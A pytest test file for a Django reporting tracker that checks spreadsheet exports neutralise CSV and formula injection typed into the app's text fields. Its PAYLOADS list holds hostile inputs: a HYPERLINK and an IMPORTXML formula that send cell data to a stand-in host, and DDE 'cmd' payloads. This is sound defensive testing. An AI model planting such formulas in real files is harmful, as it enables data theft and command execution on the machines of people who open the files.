"""Text typed by a person never becomes a live formula in a file the tracker writes.

Cục Viễn thông's reporter types OWASP's CSV-injection payloads into every free-text field, through the entry page,
the write API and the Excel import; the reviewer accepts and consolidates, leadership releases the figures; then
every file is exported: no workbook holds a formula cell, no CSV field would be evaluated by a spreadsheet, and the
unit's own form with such text goes back in with no error and no change.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from knox.models import AuthToken
from openpyxl import load_workbook

from indicators.models import Indicator
from publication.services import release_approve, release_propose
from reporting import services
from reporting.models import Submission, SubmissionValue
from reports.services import consolidation_create
from strategy_tracker.files import csv_bytes, csv_field, put
from tests.conftest import HANOI
from tests.reporting.conftest import post_entry
from tests.reporting.excel_files import as_upload, download

pytestmark = pytest.mark.django_db

# OWASP, CSV Injection (and its examples of DDE and HYPERLINK payloads), with ordinary text that starts the same way.
PAYLOADS = (
    "=1+2",
    '=HYPERLINK("http://example.invalid/?leak="&A1;"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(1)",
    "\t=1+2",
    "\r=1+2",
    "=Tổng cục Thống kê",
    "-2+3+cmd|' /C calc'!A0",
    "@Cục Viễn thông",
    "+84 24 3943 7500",
    '=IMPORTXML(CONCAT("http://example.invalid/?v=";A1);"//a")',
    "#N/A",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
FIGURE_TEXTS = ("source", "note", "comparison_with", "comparison_source")
SECTIONS = ("trend_assessment", "international_comparison", "difficulties", "proposals")


def saved(text: str) -> str:
    """What the forms and the API keep of a text: its ends trimmed (a leading tab or CR goes)."""
    return text.strip()


def _payloads(offset: int):
    """The payloads in turn from `offset`, so that each path writes each of them into some field."""
    while True:
        for i in range(len(PAYLOADS)):
            yield PAYLOADS[(offset + i) % len(PAYLOADS)]


def assert_no_formula(content: bytes, what: str) -> list[str]:
    """Every cell of every sheet of the workbook: none a formula; the texts of its string cells."""
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{what}: {ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (what, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def assert_nothing_evaluated(content: bytes, what: str) -> list[list[str]]:
    """A CSV as a spreadsheet would see it: UTF-8 with a BOM, and no field that starts as a formula unless it is a
    plain number."""
    assert content.startswith(b"\xef\xbb\xbf"), what
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for field in row:
            if field.startswith(FORMULA_STARTS):
                assert NUMBER.fullmatch(field), f"{what}: a spreadsheet would evaluate {field!r}"
    return rows


def test_the_one_csv_function_neutralises_every_payload_and_keeps_numbers():
    for payload in PAYLOADS:
        field = csv_field(payload)
        assert field.startswith('"') and not field[1:].startswith(FORMULA_STARTS)
    assert csv_field(Decimal("-3.50")) == "-3.5" and csv_field(Decimal("1E+2")) == "100" and csv_field(7) == "7"
    assert csv_field(True) == "true" and csv_field(None) == ""
    content = csv_bytes(["code", "text", "value"], [["2.10", payload, Decimal("-1.5")] for payload in PAYLOADS])
    rows = assert_nothing_evaluated(content, "csv_bytes")
    assert [row[1] for row in rows[1:]] == [
        "'" + p if p.startswith(FORMULA_STARTS) else p for p in PAYLOADS
    ]  # the text itself after the quote
    assert {row[0] for row in rows[1:]} == {"2.10"} and {row[2] for row in rows[1:]} == {"-1.5"}


def test_the_one_cell_function_keeps_every_payload_text():
    from openpyxl import Workbook

    wb = Workbook()
    for row, payload in enumerate(PAYLOADS, start=1):
        put(wb.active, row, 1, payload)
        put(wb.active, row, 2, Decimal("14.26"))
    out = io.BytesIO()
    wb.save(out)
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    assert [ws.cell(row=r, column=1).value for r in range(1, len(PAYLOADS) + 1)] == list(PAYLOADS)
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(1, len(PAYLOADS) + 1))
    assert ws["A1"].quotePrefix and not ws["A9"].value.startswith("'")  # Excel keeps it text when edited
    assert ws["B1"].value == 14.26 and ws["B1"].data_type == "n"


def _edit_as_text(content: bytes, figures: dict[str, str], sections: dict[str, str]) -> bytes:
    """The form with texts typed into cells as a person types text (never as a formula)."""
    wb = load_workbook(io.BytesIO(content))
    for ref, text in figures.items():
        put(wb.worksheets[0][ref], value=text)
    for ref, text in sections.items():
        put(wb.worksheets[1][ref], value=text)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_payloads_in_every_text_field_reach_no_file_as_a_formula(client_for, cvt_reporter, reviewer, leader):
    client = client_for(cvt_reporter)
    upload_url = reverse("reporting:excel_upload", args=["cuc-vt", "2026Q4"])
    confirm_url = reverse("reporting:excel_confirm", args=["cuc-vt", "2026Q4"])

    # 1. The entry page: 2.1's texts and the four sections.
    texts = _payloads(0)
    page_figure = {name: next(texts) for name in FIGURE_TEXTS}
    page_sections = {name: next(texts) for name in SECTIONS}
    response = post_entry(
        client, "cuc-vt", "2026Q4",
        figures={"2.1": {"value": "85,5", "comparison_value": "77,5", "comparison_year": "2025", **page_figure}},
        sections=page_sections,
    )  # fmt: skip
    assert response.status_code == 302, response.content.decode()[:2000]
    first = SubmissionValue.objects.get(indicator__code="2.1")
    assert {name: getattr(first, name) for name in FIGURE_TEXTS} == {k: saved(v) for k, v in page_figure.items()}

    # 2. The write API: 2.5's source and note.
    texts = _payloads(8)
    api_texts = {"source": next(texts), "note": next(texts)}
    feed = Client(HTTP_AUTHORIZATION=f"Token {AuthToken.objects.create(cvt_reporter)[1]}")
    body = {"indicator": "2.5", "period": "2026Q4", "value": "81,2", **api_texts}
    response = feed.post(
        "/api/v1/observations/", body | {"version": Submission.objects.get().version}, content_type="application/json"
    )
    assert response.status_code in (200, 201), response.content
    assert {k: response.json()[k] for k in api_texts} == {k: saved(v) for k, v in api_texts.items()}

    # 3. The unit's form holds all of it as text, and goes back in as it came out: no error, no change.
    form = download(client)
    cells = assert_no_formula(form, "form.xlsx")
    for text in [*page_figure.values(), *page_sections.values(), *api_texts.values()]:
        assert saved(text) in cells
    response = client.post(upload_url, {"file": as_upload(form)})
    assert response.status_code == 200, response.content.decode()[:3000]
    assert 'class="import-problems"' not in response.content.decode()
    assert 'id="import-changes"' not in response.content.decode()  # nothing changed

    # 4. The Excel import: 2.5's comparison and the sections typed in Excel.
    texts = _payloads(3)
    excel_figure = {"G8": next(texts), "H8": next(texts), "K8": next(texts)}
    excel_sections = {f"B{row}": next(texts) for row in (4, 5, 6, 7)}
    filled = _edit_as_text(form, excel_figure | {"I8": "70", "J8": "2024"}, excel_sections)
    response = client.post(upload_url, {"file": as_upload(filled)})
    assert response.status_code == 200 and 'class="import-problems"' not in response.content.decode()
    assert client.post(confirm_url).status_code == 302
    second = SubmissionValue.objects.get(indicator__code="2.5")
    assert (second.note, second.comparison_with, second.comparison_source) == tuple(
        saved(excel_figure[ref]) for ref in ("G8", "H8", "K8")
    )
    submission = Submission.objects.get()
    assert [getattr(submission, name) for name in SECTIONS] == [saved(v) for v in excel_sections.values()]
    # The form as it now is goes back in with no error and no change either.
    again = download(client)
    assert_no_formula(again, "form.xlsx after the import")
    response = client.post(upload_url, {"file": as_upload(again)})
    assert response.status_code == 200 and 'id="import-changes"' not in response.content.decode()

    # 5. Submitted, accepted, consolidated and sent; the figures released to the public.
    now = datetime(2026, 11, 30, 10, tzinfo=HANOI)
    submission = services.submission_save(
        unit=submission.unit, period=submission.period, user=cvt_reporter, version=submission.version,
        figures=[], sections=services.SectionsInput(**{n: getattr(submission, n) for n in SECTIONS}), submit=True,
        now=now,
    )  # fmt: skip
    services.submission_accept(submission=submission, user=reviewer, version=submission.version, now=now)
    consolidation_create(period=submission.period, user=reviewer, note=PAYLOADS[0])
    for code in ("2.1", "2.5"):
        release = release_propose(
            proposed_by=reviewer, note=PAYLOADS[1], indicator=Indicator.objects.get(code=code), periods=[(2026, 4)]
        )
        release_approve(release=release, approved_by=leader)

    # 6. Every file, as its reader gets it.
    staff = client_for(reviewer)
    workbooks = {
        "form.xlsx": download(client),
        "table.xlsx": staff.get(reverse("reports:xlsx", args=["2026Q4"])).content,
        "sent table.xlsx": staff.get(reverse("reports:version_xlsx", args=["2026Q4", 1])).content,
        "year table.xlsx": staff.get(reverse("reports:year_xlsx", args=[2026])).content,
    }
    public = Client()
    for path in ("/public/data.xlsx", "/public/data/2026Q4.xlsx", "/public/indicators/2.5/data.xlsx"):
        workbooks[path] = public.get(path).content
    csvs = {
        "table.csv": staff.get(reverse("reports:csv", args=["2026Q4"])).content,
        "sent table.csv": staff.get(reverse("reports:version_csv", args=["2026Q4", 1])).content,
        "year table.csv": staff.get(reverse("reports:year_csv", args=[2026])).content,
    }
    for path in ("/public/data.csv", "/public/data/2026Q4.csv", "/public/indicators/2.5/data.csv"):
        csvs[path] = public.get(path).content

    for name, content in workbooks.items():
        assert_no_formula(content, name)
    sources_seen = [saved(page_figure["source"]), saved(api_texts["source"])]
    table_texts = assert_no_formula(workbooks["table.xlsx"], "table.xlsx")
    assert all(source in table_texts for source in sources_seen)  # the Notes sheet, as typed
    assert any(text.startswith(saved(excel_figure["H8"])) for text in table_texts)  # the comparison
    assert {saved(api_texts["source"])} <= set(assert_no_formula(workbooks["/public/data.xlsx"], "data.xlsx"))

    for name, content in csvs.items():
        rows = assert_nothing_evaluated(content, name)
        assert len(rows) > 1, name
    public_rows = list(csv.DictReader(io.StringIO(csvs["/public/data.csv"].decode("utf-8-sig"))))
    by_code = {row["code"]: row for row in public_rows}
    # the text after the neutralising quote is the text as typed; the values stay numbers
    assert by_code["2.5"]["source"] == "'" + saved(api_texts["source"])
    assert (by_code["2.1"]["value"], by_code["2.5"]["value"]) == ("85.5", "81.2")


SHEETS = ("ws", "sheet", "notes", "worksheet", "data")  # the names the app's code gives a worksheet
APPS = ("strategy_tracker", "indicators", "plans", "reporting", "reports", "dashboard", "publication")


def _writes_outside_the_one_function(path: Path, *, root: Path | None = None) -> list[str]:
    """The ways a module could write a cell or a CSV line without strategy_tracker.files: a cell's value set
    directly, `ws.cell(..., value=...)`, `ws["A1"] = ...`, a worksheet's `append`, the csv module's writers."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    uses_openpyxl = any(
        (isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"))
        or (isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names))
        for node in ast.walk(tree)
    )
    found = []
    for node in ast.walk(tree):
        where = f"{path.relative_to(root or settings.BASE_DIR)}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"{where}: csv.{node.attr}")
        if not uses_openpyxl:
            continue
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr == "cell" and any(k.arg == "value" for k in node.keywords):
                found.append(f"{where}: .cell(value=...)")
            if node.func.attr == "append" and isinstance(node.func.value, ast.Name) and node.func.value.id in SHEETS:
                found.append(f"{where}: worksheet.append")
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"{where}: .value =")
                if (
                    isinstance(target, ast.Subscript)
                    and isinstance(target.value, ast.Name)
                    and target.value.id in SHEETS
                ):
                    found.append(f"{where}: ws[...] =")
    return found


def test_every_cell_and_csv_line_of_the_app_goes_through_the_one_module():
    root = Path(settings.BASE_DIR)
    modules = [p for app in APPS for p in (root / app).rglob("*.py") if "migrations" not in p.parts]
    assert any(p.name == "excel.py" for p in modules) and any(p.name == "exports.py" for p in modules)
    offending = [
        line
        for p in modules
        if p != root / "strategy_tracker" / "files.py"
        for line in _writes_outside_the_one_function(p)
    ]
    assert offending == []


def test_the_guard_sees_each_way_round_the_one_module(tmp_path):
    module = tmp_path / "exports.py"
    module.write_text(
        "import csv\nfrom openpyxl import Workbook\n\n"
        "def build(ws, text, out):\n"
        "    ws.cell(row=1, column=1, value=text)\n"
        "    ws['A2'] = text\n"
        "    ws.cell(row=3, column=1).value = text\n"
        "    ws.append([text])\n"
        "    csv.writer(out).writerow([text])\n",
        encoding="utf-8",
    )
    found = [line.split(": ", 1)[1] for line in _writes_outside_the_one_function(module, root=tmp_path)]
    assert sorted(found) == sorted([".cell(value=...)", "ws[...] =", ".value =", "worksheet.append", "csv.writer"])
